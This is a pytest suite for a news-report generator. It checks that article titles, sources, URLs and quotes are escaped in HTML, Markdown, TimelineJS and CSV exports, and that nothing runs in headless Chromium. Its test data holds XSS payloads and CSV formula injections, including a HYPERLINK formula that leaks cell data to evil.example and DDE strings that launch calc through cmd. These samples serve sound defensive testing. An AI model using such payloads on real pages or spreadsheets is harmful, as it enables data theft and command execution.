"""Input text is data, never markup or a formula.

Every field an input can carry (title, id, source, URL, publication date, a quoted speaker in the text, the file name,
sidecar values, JSONL records, feed entries, the report's title) holds payloads that, if a browser ran them, would
mark the page: ``document.body.setAttribute('data-pwned', '<where it came from>')``. The fast tests check each place
that makes HTML, Markdown or CSV from such text; the slow tests render a whole report on an injection corpus and load
every page in headless Chromium — as shipped, and with the Content-Security-Policy removed, so that escaping alone is
shown to hold — and check the exports.
"""

from __future__ import annotations

import csv
import html
import html.parser
import io
import json
import re
from dataclasses import dataclass
from pathlib import Path
from types import SimpleNamespace

import pandas as pd
import pytest

from sitrep import schema
from sitrep.analysis import Analysis, display_table, front_page_header
from sitrep.cli import main
from sitrep.escape import FORMULA_PREFIXES, csv_cell, csv_frame, html_text, markdown_text
from sitrep.export import to_timelinejs, write_acled_csv
from sitrep.store import IngestSummary
from sitrep.timeline import build_timeline

PWNED = "data-pwned"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
URL_ATTRIBUTES = ("href", "src", "action", "formaction", "xlink:href")
CSP_META = re.compile(r'<meta\b[^>]*\bhttp-equiv="Content-Security-Policy"[^>]*>', re.I)


def js(site: str) -> str:
    return f"document.body.setAttribute('{PWNED}','{site}')"


def script(site: str) -> str:
    return f"<script>{js(site)}</script>"


def img(site: str) -> str:
    return f'<img src=x onerror="{js(site)}">'


def svg(site: str) -> str:
    return f'<svg onload="{js(site)}"></svg>'


def md_link(site: str) -> str:
    return f"[click](javascript:{js(site)})"


def payload(site: str) -> str:
    """Every kind of payload, each marking the page with ``site`` if it runs."""
    return f"{script(site)} {img(site)} {svg(site)} {md_link(site)}"


class Markup(html.parser.HTMLParser):
    """The elements, attributes and visible text of an HTML fragment or page (style sheets and scripts left out);
    each script element with its body."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict]] = []
        self.scripts: list[tuple[dict, str]] = []
        self.body: dict = {}
        self._text: list[str] = []
        self._in_style = False
        self._script: list[str] | None = None
        self.feed(text)
        self.close()

    @property
    def text(self) -> str:
        return " ".join("".join(self._text).split())

    def handle_starttag(self, tag, attrs):
        a = {k: v or "" for k, v in attrs}
        self.tags.append((tag, a))
        if tag == "body":
            self.body = a
        self._in_style = tag == "style"
        if tag == "script":
            self._script = []

    def handle_endtag(self, tag):
        if tag == "style":
            self._in_style = False
        if tag == "script" and self._script is not None:
            self.scripts.append((self.tags[max(i for i, (t, _) in enumerate(self.tags) if t == "script")][1],
                                 "".join(self._script)))
            self._script = None

    def handle_data(self, data):
        if self._script is not None:
            self._script.append(data)
        elif not self._in_style:
            self._text.append(data)

    def foreign_scripts(self) -> list[str]:
        """Scripts that are not sitrep's own (by their exact text) nor whole JSON data blocks."""
        from sitrep import web

        own = {web.sha256_source(t) for t in web.known_scripts()}
        found = []
        for attrs, body in self.scripts:
            if attrs.get("type", "").lower() == "application/json":
                try:
                    json.loads(body)
                except ValueError:
                    found.append(f"broken data block {body[:60]!r}")
            elif web.sha256_source(body) not in own:
                found.append(f"script {body[:60]!r}")
        return found

    def injected(self) -> list[str]:
        """What in this markup could run a payload: script elements other than sitrep's own, event handlers,
        javascript: URLs, images that are not embedded, svg elements."""
        found = self.foreign_scripts()
        for tag, attrs in self.tags:
            if tag in ("svg", "iframe", "object", "embed"):
                found.append(tag)
            found += [f"{tag} {k}" for k in attrs if k.startswith("on")]
            found += [f"{tag} {k}={v[:40]}" for k, v in attrs.items()
                      if k in URL_ATTRIBUTES and re.match(r"\s*(javascript|vbscript|data:text)", v, re.I)]
            if tag == "img" and not attrs.get("src", "").startswith("data:image/"):
                found.append(f"img src={attrs.get('src', '')[:40]}")
        return found


def visible(text: str) -> str:
    return " ".join(text.split())


# -- HTML and Markdown made from inputs -----------------------------------------------------------------------------


def test_display_table_escapes_cells_headers_and_caption_and_keeps_number_formats():
    frame = pd.DataFrame({img("header"): [payload("cell"), None], "killed": [1234.0, None],
                          "sources": [[script("list"), "b"], []]})
    rendered = display_table(frame, caption=payload("caption")).to_html()
    markup = Markup(rendered)
    assert markup.injected() == []
    for site in ("cell", "caption"):
        assert visible(payload(site)) in markup.text
    assert img("header") in markup.text and f"{script('list')}, b" in markup.text
    cells = re.findall(r"<td[^>]*>(.*?)</td>", rendered, re.S)
    assert "1,234" in cells and cells.count("") >= 2  # thousands separator, no decimals, blanks for missing values


def test_an_empty_table_says_so_in_plain_text():
    from nbconvert.filters.markdown import markdown2html

    shown = markdown2html(display_table(pd.DataFrame(), empty=payload("empty")).data)
    markup = Markup(shown)
    assert markup.injected() == [] and visible(payload("empty")) in markup.text


def analysis(articles: list[dict], events: list[dict] = (), **parameters) -> Analysis:
    return Analysis(articles=schema.frame(schema.ARTICLES, articles), problems=schema.frame(schema.PROBLEMS),
                    entities=schema.frame(schema.ENTITIES), numbers=schema.frame(schema.NUMBERS),
                    events=schema.frame(schema.EVENTS, events), claims=schema.frame(schema.CLAIMS),
                    times=schema.frame(schema.TIMES), ingest=IngestSummary(), parameters=parameters)


def test_front_page_header_shows_the_title_and_filters_as_text():
    from nbconvert.filters.markdown import markdown2html

    run = analysis([{"article_id": "a", "title": "t", "published": "2025-12-05", "text": "..."}],
                   region=payload("region"), kinds=md_link("kinds"))
    title = payload("title") + "\n# second heading *emphasis* `code`"
    for shown in (front_page_header(run, title), front_page_header(analysis([]), title)):
        markup = Markup(markdown2html(shown))
        assert markup.injected() == []
        assert [tag for tag, _ in markup.tags if tag in ("h1", "h2", "em", "code", "a")] == ["h1", "a"]  # ¶ anchor
        assert visible(title) in markup.text
    assert f"region={visible(payload('region'))}" in Markup(markdown2html(front_page_header(run, title))).text


def test_displacy_title_and_text_are_escaped():
    from sitrep.nlp import render_entities

    text = f"Russian drones hit Kharkiv. {payload('text')}"
    entities = pd.DataFrame([{"char_start": 20, "char_end": 27, "label": "GPE"}])
    markup = Markup(render_entities(text, entities, title=payload("displacy-title")))
    assert markup.injected() == []
    assert visible(payload("displacy-title")) in markup.text and visible(payload("text")) in markup.text


def test_markdown_text_renders_as_the_literal_text():
    from nbconvert.filters.markdown import markdown2html

    value = "*a* _b_ `c` [d](e) ![f](g) <h> & $i$ ~~j~~ | k \\ #l"
    assert Markup(markdown2html(markdown_text(value))).text == value
    assert html_text("<a href='x'>\"") == "&lt;a href=&#x27;x&#x27;&gt;&quot;"


# -- exports ----------------------------------------------------------------------------------------------------------


def exported_event(event_id: str, article_id: str, **fields) -> dict:
    row = {"event_id": event_id, "article_id": article_id, "kind": "attack", "subkind": "drone_strike",
           "acled_event_type": "Explosions/Remote violence", "acled_sub_event_type": "Air/drone strike",
           "actor": "Russia", "actor_country": "RU", "target": payload("target"), "target_country": "UA",
           "weapon": "drone", "place": payload("place"), "admin1": "Kharkiv Oblast", "country": "UA",
           "lat": 49.98, "lon": -36.25, "geo_precision": 1, "date_text": "overnight", "date_start": "2025-12-04",
           "date_end": "2025-12-04", "time_precision": 1, "status": "happened", "claimant": payload("claimant"),
           "certainty": "confirmed", "killed": 2, "char_start": 0, "char_end": 90,
           "sentence": f"{FORMULA} drones hit the city overnight."}
    return row | fields


EXPORT_EVENTS = schema.frame(schema.EVENTS, [
    exported_event("e1", "a1"),
    exported_event("e2", "a2", killed=3, claimant="-2+3+cmd|' /C calc'!A0", place="@SUM(1+1)*cmd|' /C calc'!A0",
                   admin1="Krasnodar Krai", country="RU", lat=45.27, lon=37.40, date_start="2025-11-20",
                   date_end="2025-11-20"),
    exported_event("e3", "a1", kind="statement", subkind=None, acled_event_type=None, acled_sub_event_type=None,
                   speaker=payload("speaker"), claimant=payload("speaker"), place=None, lat=None, lon=None,
                   date_start="2025-12-05", date_end="2025-12-05"),
])
EXPORT_ARTICLES = schema.frame(schema.ARTICLES, [
    {"article_id": "a1", "title": payload("title"), "published": "2025-12-05", "source": FORMULA, "text": "..."},
    {"article_id": "a2", "title": "t", "published": "2025-12-05", "source": payload("source"), "text": "..."},
])


def strings_in(value) -> list[str]:
    if isinstance(value, dict):
        return [s for v in value.values() for s in strings_in(v)]
    if isinstance(value, list):
        return [s for v in value for s in strings_in(v)]
    return [value] if isinstance(value, str) else []


def assert_timelinejs_is_escaped(data: dict) -> None:
    """Every headline and text is HTML that shows its input as text: no element but TimelineJS's own p/ul/li."""
    for slide in [data["title"], *data["events"]]:
        for part in ("headline", "text"):
            markup = Markup(slide["text"][part])
            assert markup.injected() == [], (part, slide["text"][part][:200])
            assert {tag for tag, _ in markup.tags} <= {"p", "ul", "li"}, slide["text"][part][:200]
    assert not any(re.search(r"<\s*(script|img|svg)", s, re.I) for s in strings_in(
        [data["title"]["text"], [e["text"] for e in data["events"]]]))


def test_timelinejs_headlines_and_texts_are_escaped_html():
    timeline = build_timeline(EXPORT_EVENTS, EXPORT_ARTICLES)
    data = to_timelinejs(timeline, title=payload("timeline-title"), articles=EXPORT_ARTICLES,
                         description=payload("description"))
    assert_timelinejs_is_escaped(data)
    headlines = [Markup(s["text"]["headline"]).text for s in data["events"]]
    assert f"Drone strike in {visible(payload('place'))}" in headlines
    assert f"Statement by {visible(payload('speaker'))}" in headlines
    assert Markup(data["title"]["text"]["headline"]).text == visible(payload("timeline-title"))
    assert any(visible(payload("source")) in Markup(s["text"]["text"]).text for s in data["events"])


def formula_cells(rows: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would run: starting with a formula character and not a plain number."""
    def number(cell: str) -> bool:
        try:
            float(cell)
        except ValueError:
            return False
        return True

    return [cell for row in rows for cell in row if cell.startswith(FORMULA_PREFIXES) and not number(cell)]


def test_acled_csv_cells_are_never_formulas_and_numbers_stay_numbers(tmp_path):
    timeline = build_timeline(EXPORT_EVENTS, EXPORT_ARTICLES)
    path = write_acled_csv(timeline, tmp_path / "acled.csv", events=EXPORT_EVENTS, articles=EXPORT_ARTICLES)
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))
    assert formula_cells(rows) == []
    cells = [cell for row in rows for cell in row]
    assert any(c.startswith("'" + FORMULA) for c in cells)  # the payload got there, guarded
    assert any(c.startswith("'@SUM(1+1)*cmd") for c in cells)
    back = pd.read_csv(path)
    assert sorted(back["longitude"].dropna()) == [-36.25, 37.40]  # a negative number is still a number
    assert back["fatalities"].dtype.kind == "i"


@pytest.mark.parametrize("prefix", list(FORMULA_PREFIXES))
def test_csv_cell_guards_each_formula_prefix(prefix):
    assert csv_cell(prefix + "SUM(A1)") == "'" + prefix + "SUM(A1)"


@pytest.mark.parametrize("value", [-36.25, 0, 12, "-36.25", "+3", "-1e3", "Kharkiv", "", None, "a=b", " =x"])
def test_csv_cell_leaves_numbers_and_plain_text_alone(value):
    assert csv_cell(value) == value


def test_csv_frame_keeps_dtypes_and_guards_text_columns():
    frame = pd.DataFrame({"lon": [-80.19, None], "killed": pd.array([-1, None], dtype="Int64"),
                          "source": ["@SUM(A1)", None], FORMULA: ["x", "y"]})
    out = csv_frame(frame)
    assert out.dtypes.tolist() == frame.dtypes.tolist()
    assert out["lon"].tolist()[0] == -80.19 and out["killed"].tolist()[0] == -1
    assert out["source"].tolist()[0] == "'@SUM(A1)" and pd.isna(out["source"].tolist()[1])
    assert list(out.columns)[-1] == "'" + FORMULA
    assert frame["source"].tolist()[0] == "@SUM(A1)"  # the input is not changed


@pytest.mark.parametrize("command", ["events", "timeline"])
def test_cli_csv_output_is_never_a_formula(command, monkeypatch, capsys, tmp_path):
    extraction = SimpleNamespace(events=EXPORT_EVENTS, unresolved=[])
    article = SimpleNamespace(article_id=EXPORT_EVENTS["article_id"].iloc[0], published="2025-12-05", path="x.txt")
    monkeypatch.setattr("sitrep.cli._extractions", lambda args: iter([(article, extraction)]))
    assert main([command, str(tmp_path), "--format", "csv"]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert len(rows) > 1 and formula_cells(rows) == []
    assert any(cell.startswith("'@SUM(1+1)*cmd") for row in rows for cell in row)  # the payload got there, guarded


# -- the report's own HTML ------------------------------------------------------------------------------------------


def test_index_escapes_names_errors_parameters_and_file_names(tmp_path):
    from sitrep.report import NotebookResult, RunResult, write_index

    run_dir = tmp_path / "run"
    run_dir.mkdir()
    name = f"01_{img('notebook')}"
    notebooks = (NotebookResult(name, "failed", 1.0, f"{name}.ipynb", f"{name}.html", error=payload("error")),)
    files = ({"path": f"exports/{img('export')}.csv", "bytes": 10, "sha256": "0" * 64},
             {"path": "charts/javascript:alert(1).svg", "bytes": 10, "sha256": "1" * 64})
    result = RunResult("run-1", run_dir, {"title": payload("parameter"), "region": payload("region")}, notebooks,
                       exports=files[:1], images=files[1:])
    page = write_index(result).read_text(encoding="utf-8")
    markup = Markup(page)
    assert markup.injected() == []
    for site in ("error", "parameter"):
        assert visible(payload(site)) in markup.text
    hrefs = [a.get("href", "") for tag, a in markup.tags if tag == "a"]
    assert all(re.fullmatch(r"[\w./%#~-]+", h) for h in hrefs), hrefs  # relative links, percent-encoded
    assert "charts/javascript%3Aalert%281%29.svg" in hrefs
    assert CSP_META.search(page)


def test_every_page_carries_a_content_security_policy(tmp_path):
    from nbformat.v4 import new_markdown_cell, new_notebook

    from sitrep.report import _Renderer

    target = tmp_path / "page.html"
    _Renderer().render(new_notebook(cells=[new_markdown_cell("# hello")]), target, title=payload("title"), header="")
    page = target.read_text(encoding="utf-8")
    (meta,) = CSP_META.findall(page)
    policy = {d.split()[0]: d.split()[1:] for d in re.search(r'content="([^"]+)"', meta).group(1).split(";")
              if d.strip()}
    assert policy["default-src"] == ["'none'"] and policy["script-src"] == ["'none'"]
    assert policy["object-src"] == ["'none'"] and policy["base-uri"] == ["'none'"]
    assert set(policy["img-src"]) == {"data:"}
    # it comes before anything it governs
    assert page.index(meta) < min(page.index(t) for t in ("<style", "<body", "<title"))
    assert Markup(page).injected() == []


# -- a whole report on an injection corpus (slow) -------------------------------------------------------------------

RSS = """<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0"><channel>
<title>{channel}</title><link>https://example.org/</link><description>feed</description>
<item>
  <title>{title}</title>
  <link>javascript:{js_link}</link>
  <pubDate>Fri, 05 Dec 2025 07:00:00 GMT</pubDate>
  <description><![CDATA[<p>Russian drones struck Odesa overnight, killing two people, regional governor Oleh Kiper
  said.</p><script>{js_script}</script><p>{escaped}</p><img src=x onerror="{js_img}">]]></description>
</item>
</channel></rss>
"""


def build_corpus(folder: Path) -> Path:
    """An injection corpus: a text file whose name is a payload, with a sidecar of payloads; a JSONL corpus with
    payloads in every key; an RSS feed with HTML entries and escaped payloads. Every text reports an attack and a
    quoted statement so that payloads reach the timeline, the claims and the statements."""
    folder.mkdir(parents=True)
    story = folder / f"{img('filename')}.txt"
    story.write_text(f"Headline of the file {payload('first-line')}\n\nRussian drones struck Kharkiv overnight, "
                     f"killing three people, regional governor Oleh Syniehubov said.\n\n"
                     f"\"{img('quote')} We will answer,\" said President {script('speaker')} Volodymyr Zelensky "
                     f"on Friday.\n", encoding="utf-8")
    sidecar = {key: payload(f"sidecar-{key}") for key in ("id", "title", "source", "url", "published")}
    Path(f"{story}.meta.json").write_text(json.dumps(sidecar), encoding="utf-8")
    records = [{"id": payload("jsonl-id"), "title": payload("jsonl-title"), "source": FORMULA,
                "url": f"javascript:{js('jsonl-url')}", "published": "2025-12-05",
                "text": f"{FORMULA} A Russian missile strike on Dnipro injured five people, regional governor "
                        f"Serhiy Lysak said. \"{svg('jsonl-quote')}\" said {payload('jsonl-speaker')} Lysak."},
               {"id": "plain-2", "title": "Sumy", "source": payload("jsonl-source"), "published": payload("jsonl-pub"),
                "text": f"Russian drones hit Sumy overnight, injuring six people, governor Oleh Hryhorov said "
                        f"on Telegram, calling it {payload('jsonl-text')}."}]
    (folder / "corpus.jsonl").write_text("".join(json.dumps(r) + "\n" for r in records), encoding="utf-8")
    feed = RSS.format(channel=html.escape(payload("feed-channel")), title=html.escape(payload("feed-title")),
                      js_link=html.escape(js("feed-link")), js_script=js("feed-script"), js_img=js("feed-img"),
                      escaped=html.escape(payload("feed-escaped")))
    (folder / "feed.rss").write_text(feed, encoding="utf-8")
    return folder


NO_NETWORK = "--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE localhost"
REPORT_TITLE = payload("report-title")
# Where the corpus's payloads must show (as text) somewhere in the report, so that the checks below are not vacuous.
SHOWN_SITES = ("report-title", "filename", "sidecar-id", "sidecar-title", "sidecar-source", "quote", "speaker",
               "jsonl-id", "jsonl-title", "jsonl-source", "jsonl-speaker", "feed-channel", "feed-title", "feed-escaped")


# Where the corpus's payloads must show on the provenance page (article titles, outlets, sentences).
PROVENANCE_SITES = ("sidecar-title", "jsonl-title", "feed-title")


@pytest.fixture(scope="module")
def chromium() -> str:
    from sitrep.report import CHROMIUM_NAMES, find_chromium

    found = find_chromium()
    if not found:
        pytest.skip(f"Chromium not found (looked for {', '.join(CHROMIUM_NAMES)})")
    return found


@pytest.fixture(scope="module")
def injected_report(tmp_path_factory):
    from sitrep.report import run_report

    corpus = build_corpus(tmp_path_factory.mktemp("injection") / "corpus")
    lines: list[str] = []
    result = run_report([str(corpus)], out_dir=tmp_path_factory.mktemp("reports"),
                        parameters={"title": REPORT_TITLE}, progress=lines.append)
    assert result.ok, ({n.name: n.error for n in result.notebooks if n.status != "ok"}, lines)
    return result


def report_pages(result) -> list[Path]:
    pages = [result.index, *(result.run_dir / n.html for n in result.notebooks if n.html),
             result.run_dir / "provenance.html"]
    assert len(pages) == 2 + len(result.notebooks) and pages[-1].is_file()
    return pages


@dataclass
class Loaded:
    dom: Markup  # the DOM once the page has loaded
    violations: list[str]  # what the browser's console says the Content-Security-Policy blocked


def dumped(page: Path) -> Loaded:
    """``page`` loaded in headless Chromium (network blocked)."""
    from sitrep.report import headless_chromium

    done = headless_chromium(page, "--dump-dom", "--enable-logging=stderr", "--v=0", NO_NETWORK)
    assert done.returncode == 0 and "<html" in done.stdout, done.stderr[-2000:]
    violations = [line for line in done.stderr.splitlines() if "Content Security Policy" in line]
    return Loaded(Markup(done.stdout), violations)


def copy_without_csp(page: Path, folder: Path, extra: str = "") -> Path:
    """A copy of ``page`` in ``folder`` without its Content-Security-Policy, with ``extra`` markup at the body's end."""
    copy = folder / page.name
    folder.mkdir(parents=True, exist_ok=True)
    text = CSP_META.sub("", page.read_text(encoding="utf-8"))
    copy.write_text(text.replace("</body>", extra + "</body>"), encoding="utf-8")
    assert not CSP_META.search(copy.read_text(encoding="utf-8"))
    return copy


def assert_nothing_ran(page: Path) -> Loaded:
    loaded = dumped(page)
    assert PWNED not in loaded.dom.body, f"{page.name}: a payload ran ({loaded.dom.body[PWNED]})"
    assert loaded.dom.injected() == [], page.name
    return loaded


@pytest.mark.slow
def test_no_payload_runs_in_any_page(chromium, injected_report):
    texts = []
    for page in report_pages(injected_report):
        assert CSP_META.search(page.read_text(encoding="utf-8")), page.name
        loaded = assert_nothing_ran(page)
        assert loaded.violations == [], page.name  # the policy blocks nothing the page uses (and no payload tried)
        texts.append(loaded.dom.text)
    missing = [site for site in SHOWN_SITES if not any(js(site) in text for text in texts)]
    assert missing == []  # every payload reached a page, shown as text
    provenance = texts[-1]
    assert [site for site in PROVENANCE_SITES if js(site) not in provenance] == []


@pytest.mark.slow
def test_the_corpus_through_the_live_widgets(cdp_browser, injected_report):
    """The front page with its scripts running: tables drawn by DataTables from their data, every map and timeline
    point hovered; nothing ran, nothing was fetched, the policy blocked nothing."""
    from cdp import hover_points, widgets

    cdp_browser.open(injected_report.index, settle=2.5)
    seen = widgets(cdp_browser)
    assert seen["drawn"] == seen["widgets"] and seen["datatables"] >= 2 and seen["canvases"] >= 2, seen
    assert hover_points(cdp_browser)  # tooltips were shown
    assert widgets(cdp_browser)["pwned"] is None
    cells = cdp_browser.js("[...document.querySelectorAll('table.dataTable td')].map(td => td.innerText + ' ' +"
                           " [...td.querySelectorAll('[title]')].map(e => e.title).join(' ')).join(' ')")
    assert [site for site in ("speaker", "quote") if js(site) in cells]  # the statements table, drawn from JSON
    assert [u for u in cdp_browser.requests() if not u.startswith(("file:", "data:"))] == []
    assert [c for c in cdp_browser.console() if "Content Security Policy" in c] == []


@pytest.mark.slow
def test_escaping_alone_holds_without_the_csp(chromium, injected_report, tmp_path):
    for page in report_pages(injected_report):
        assert_nothing_ran(copy_without_csp(page, tmp_path / "no-csp"))


@pytest.mark.slow
def test_a_raw_payload_is_caught_and_the_csp_blocks_it(chromium, injected_report, tmp_path):
    """The check above can fail: the same payloads written raw into a page do run there without the policy, and are
    blocked by it."""
    raw = f"{img('control')}{script('control')}"
    unprotected = copy_without_csp(injected_report.index, tmp_path / "raw", extra=raw)
    assert dumped(unprotected).dom.body.get(PWNED) == "control"
    protected = tmp_path / "raw-with-csp.html"
    protected.write_text(injected_report.index.read_text(encoding="utf-8").replace("</body>", raw + "</body>"),
                         encoding="utf-8")
    loaded = dumped(protected)
    assert PWNED not in loaded.dom.body
    assert loaded.violations  # and the browser says so: the console check above can fail


@pytest.mark.slow
def test_exports_hold_no_markup_or_formulas(injected_report):
    exports = injected_report.run_dir / "exports"
    data = json.loads((exports / "timelinejs.json").read_text(encoding="utf-8"))
    assert_timelinejs_is_escaped(data)
    assert Markup(data["title"]["text"]["headline"]).text == visible(REPORT_TITLE)
    assert not re.search(r"<\s*(script|img|svg)\b", (exports / "timelinejs.json").read_text(encoding="utf-8"), re.I)
    tables = sorted(exports.glob("*.csv"))
    assert tables
    for table in tables:
        rows = list(csv.reader(io.StringIO(table.read_text(encoding="utf-8"))))
        assert formula_cells(rows) == [], table.name
    acled = [cell for row in csv.reader(io.StringIO((exports / "acled.csv").read_text(encoding="utf-8")))
             for cell in row]
    assert "'" + FORMULA in acled  # the JSONL source reached the CSV, guarded


# -- the interactive widgets and the provenance page ------------------------------------------------------------------

WIDGET_EVENTS = schema.frame(schema.EVENTS, [
    exported_event("w1", "a1", lon=36.25, subkind=payload("subkind")),
    exported_event("w2", "a2", killed=3, lat=45.27, lon=37.40, admin1=payload("admin1"), country="RU",
                   date_start="2025-11-20", date_end="2025-11-20"),
    exported_event("w3", "a1", kind="statement", subkind=None, speaker=payload("speaker"),
                   claimant=payload("speaker"), place=None, lat=None, lon=None, date_start="2025-12-05",
                   date_end="2025-12-05", sentence=f"{payload('sentence')} said the speaker."),
])
WIDGET_ARTICLES = schema.frame(schema.ARTICLES, [
    {"article_id": "a1", "title": payload("title"), "published": "2025-12-05", "source": payload("outlet"),
     "url": f"javascript:{js('url')}", "text": "..."},
    {"article_id": "a2", "title": "t", "published": "2025-12-05", "source": payload("source"),
     "url": "https://example.org/a?x=1&y=2", "text": "..."},
])
WIDGET_CLAIMS = schema.frame(schema.CLAIMS, [
    {"claim_id": "c1", "event_id": "w1", "article_id": "a1", "sentence": f"Two killed in {payload('claim-sentence')}",
     "char_start": 0, "char_end": 60, "figure": "killed", "value": 2, "claimant": payload("claimant"),
     "certainty": "confirmed"},
])


def widget_run() -> Analysis:
    return Analysis(articles=WIDGET_ARTICLES, problems=schema.frame(schema.PROBLEMS),
                    entities=schema.frame(schema.ENTITIES), numbers=schema.frame(schema.NUMBERS),
                    events=WIDGET_EVENTS, claims=WIDGET_CLAIMS, times=schema.frame(schema.TIMES),
                    ingest=IngestSummary(), parameters={})


def widget_pages(folder: Path) -> dict[str, Path]:
    """A page with the interactive map, timeline and timeline table of :func:`widget_run` (rendered by the
    report's renderer, so with its policy), and its provenance page."""
    from nbformat.v4 import new_code_cell, new_notebook, new_output

    from sitrep.analysis import timeline_table
    from sitrep.charts import map_widget, timeline_widget
    from sitrep.provenance import provenance_page
    from sitrep.report import _Renderer
    from sitrep.tables import PROVENANCE_LINK, interactive_table

    run = widget_run()
    outputs = [map_widget(run.timeline)._repr_html_(), timeline_widget(run.timeline)._repr_html_(),
               interactive_table(timeline_table(run), caption=payload("caption"),
                                 links={"entry": PROVENANCE_LINK})._repr_html_(),
               interactive_table(run.events[["kind", "speaker", "sentence"]])._repr_html_()]
    folder.mkdir(parents=True, exist_ok=True)
    cells = [new_code_cell(outputs=[new_output("display_data", data={"text/html": o})]) for o in outputs]
    index = folder / "index.html"
    _Renderer().render(new_notebook(cells=cells), index, title=payload("page-title"), header="")
    provenance = folder / "provenance.html"
    provenance.write_text(provenance_page(run), encoding="utf-8")
    return {"index": index, "provenance": provenance}


def test_widget_and_provenance_pages_hold_only_sitreps_scripts_and_escaped_text(tmp_path):
    pages = widget_pages(tmp_path)
    index = pages["index"].read_text(encoding="utf-8")
    markup = Markup(index)
    assert markup.injected() == []
    assert len(markup.scripts) > 4 and not re.search(r"<img src=x|<svg onload", index)
    assert "script-src 'sha256-" in CSP_META.search(index).group(0)
    page = pages["provenance"].read_text(encoding="utf-8")
    markup = Markup(page)
    assert markup.injected() == [] and markup.scripts == []
    assert "script-src 'none'" in CSP_META.search(page).group(0)
    for site in ("title", "outlet", "sentence", "claim-sentence", "source"):
        assert visible(payload(site)) in markup.text, site
    links = [a.get("href") for tag, a in markup.tags if tag == "a"]
    assert not any(h.startswith("javascript") for h in links)
    assert "https://example.org/a?x=1&y=2" in links and "?x=1&amp;y=2" in page  # a web URL is a link, escaped
    assert f"javascript:{js('url')}" in markup.text  # any other URL is text


@pytest.fixture(scope="module")
def cdp_browser(chromium):
    from cdp import Browser

    with Browser() as b:
        yield b


@pytest.mark.slow
def test_no_payload_runs_in_the_map_hover_the_table_cells_or_the_provenance_page(cdp_browser, tmp_path):
    from cdp import hover_points, widgets

    pages = widget_pages(tmp_path / "pages")
    for variant, folder in (("with the policy", tmp_path / "pages"), ("without it", tmp_path / "no-csp")):
        index = pages["index"] if folder == tmp_path / "pages" else copy_without_csp(pages["index"], folder)
        cdp_browser.open(index, settle=2.0)
        seen = widgets(cdp_browser)
        assert seen["drawn"] == seen["widgets"] == 4 and seen["datatables"] == 2 and seen["canvases"] >= 2, variant
        tips = hover_points(cdp_browser)
        assert any(visible(payload("subkind")) in t for t in tips), (variant, tips)  # shown, as text
        assert any(visible(payload("admin1")) in t for t in tips), (variant, tips)
        cells = cdp_browser.js(  # a long cell shows its start; the full text is its title (hover)
            "[...document.querySelectorAll('table.dataTable td')].map(td => td.innerText + ' ' +"
            " [...td.querySelectorAll('[title]')].map(e => e.title).join(' ')).join(' ')")
        assert visible(payload("speaker")) in " ".join(cells.split()), variant
        assert cdp_browser.js("document.querySelectorAll('table.dataTable img, table.dataTable svg').length") == 0
        assert widgets(cdp_browser)["pwned"] is None, variant
        assert [u for u in cdp_browser.requests() if not u.startswith(("file:", "data:"))] == []
    cdp_browser.open(pages["provenance"], settle=0.5)
    assert cdp_browser.js("document.body.getAttribute('data-pwned')") is None
    assert [c for c in cdp_browser.console() if "Content Security Policy" in c] == []
